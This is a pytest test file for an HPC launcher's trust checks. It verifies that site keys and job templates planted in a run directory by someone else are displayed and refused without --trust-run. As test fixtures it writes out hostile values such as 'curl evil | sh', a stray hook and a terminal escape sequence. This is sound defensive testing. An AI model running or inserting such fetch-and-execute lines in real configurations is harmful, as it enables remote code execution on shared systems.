"""Copies of site and template in a run that somebody else may have written: shown, and not executed without a word."""

import json

import pytest
import yaml

from hpcddm.commands.trusting import stored_start
from hpcddm.errors import ConfigError
from hpcddm.launch import vouching
from hpcddm.launch.submission import store_site
from hpcddm.launch.template import store_parts
from hpcddm.rundir.layout import RunDir
from hpcddm.rundir.reading import Unreadable
from hpcddm.site import Site
from tests.foreign_cases import spoil

SITE = Site(name="north", scheduler="local", setup=["module load mine"])
PARTS = {"slurm/start.sh.j2": "# my way to start\n"}


@pytest.fixture
def run(tmp_path, monkeypatch):
    """A run that this user submitted, with a template of his own, from a folder that holds nothing."""
    run = RunDir(tmp_path / "run")
    store_site(SITE, run)
    store_parts(run, PARTS)
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    return run


def plant(run, **keys):
    """Write other keys into the run's copy of the site, as a merged folder would."""
    values = json.loads(run.site("north").read_text()) | keys
    run.site("north").write_text(json.dumps(values))


def refused(run, capsys, **how):
    with pytest.raises(ConfigError, match="repeat with --trust-run") as error:
        stored_start("north", run, False, **how)
    assert str(error.value).count("\n") == 0
    return capsys.readouterr().err


def forget(monkeypatch, tmp_path):
    """Be another user, who has submitted nothing."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "nobody"))


def test_what_this_user_submitted_needs_no_word(run):
    assert stored_start("north", run, False) == (SITE, PARTS)
    assert stored_start("north", run, False, in_job=True) == (SITE, PARTS)


@pytest.mark.parametrize("key, value", [
    ("hook", "touch /tmp/evil"), ("setup", ["module load mine", "curl evil | sh"]), ("python", "/tmp/evil"),
    ("container", ["/tmp/evil"]), ("scratch", "$EVIL"), ("stages", {"train": {"setup": ["evil"]}}),
])  # fmt: skip
def test_a_key_that_somebody_else_wrote_is_shown_and_refused(run, capsys, key, value):
    plant(run, **{key: value})
    assert f"site key {key}: {json.dumps(value)}" in refused(run, capsys)
    assert stored_start("north", run, True)[0] == SITE.model_validate(SITE.model_dump() | {key: value})


def test_control_characters_of_a_planted_hook_reach_no_terminal_and_its_end_is_shown(run, capsys):
    plant(run, hook="\x1b[2J" + "true; " * 200 + "evil")
    shown = refused(run, capsys)
    assert "\x1b" not in shown and "true; evil" in shown


def test_lines_of_a_planted_template_are_shown_and_refused(run, capsys):
    (run.template / "start.sh.j2").write_text("# my way to start\ncurl evil | sh\n")
    assert "start.sh.j2: +curl evil | sh" in refused(run, capsys)
    assert "curl evil" in stored_start("north", run, True)[1]["slurm/start.sh.j2"]
    (run.template / "start.sh.j2").unlink()
    assert stored_start("north", run, False) == (SITE, {}), "the package's is always the user's own"


@pytest.mark.parametrize("kind", ["huge", "link", "pipe", "folder", "not UTF-8"])
def test_a_template_of_any_kind_is_refused_by_name(run, kind):
    spoil(run.template / "job.sbatch.j2", kind)
    for trust_run in (False, True):
        with pytest.raises(Unreadable, match="template/job.sbatch.j2: "):
            stored_start("north", run, trust_run)


def test_somebody_else_needs_a_site_file_of_the_same_keys(run, capsys, tmp_path, monkeypatch):
    forget(monkeypatch, tmp_path)
    assert 'site key setup: ["module load mine"]' in refused(run, capsys)
    own = {"name": "north", "scheduler": "local", "setup": ["module load mine"]}
    (tmp_path / "here/north.yaml").write_text(yaml.safe_dump(own))
    (tmp_path / "here/slurm").mkdir()
    (tmp_path / "here/slurm/start.sh.j2").write_text(PARTS["slurm/start.sh.j2"])
    assert stored_start("north", run, False) == (SITE, PARTS)
    refused(run, capsys, in_job=True)
    (tmp_path / "here/north.yaml").write_text(yaml.safe_dump(own | {"setup": ["module load other"]}))
    assert "site key setup" in refused(run, capsys)


def test_a_site_file_inside_the_run_is_not_the_users_own(run, capsys, monkeypatch):
    plant(run, hook="evil")
    (run.root / "north.yaml").write_text(run.site("north").read_text())
    monkeypatch.chdir(run.root)
    assert 'site key hook: "evil"' in refused(run, capsys)


def test_a_job_has_the_digests_from_its_script(run, capsys, tmp_path, monkeypatch):
    forget(monkeypatch, tmp_path)
    refused(run, capsys, in_job=True)
    monkeypatch.setenv(vouching.VARIABLE, vouching.digests(SITE, PARTS))
    assert stored_start("north", run, False, in_job=True) == (SITE, PARTS)
    plant(run, hook="evil")
    refused(run, capsys, in_job=True)


def test_a_folder_of_digests_that_others_can_write_vouches_for_nothing(run, capsys, tmp_path, monkeypatch):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    vouching.remember(vouching.values_of(SITE))
    vouching.remember(PARTS)
    assert stored_start("north", run, False)
    (tmp_path / "state/hpcddm/submitted").chmod(0o777)
    refused(run, capsys)
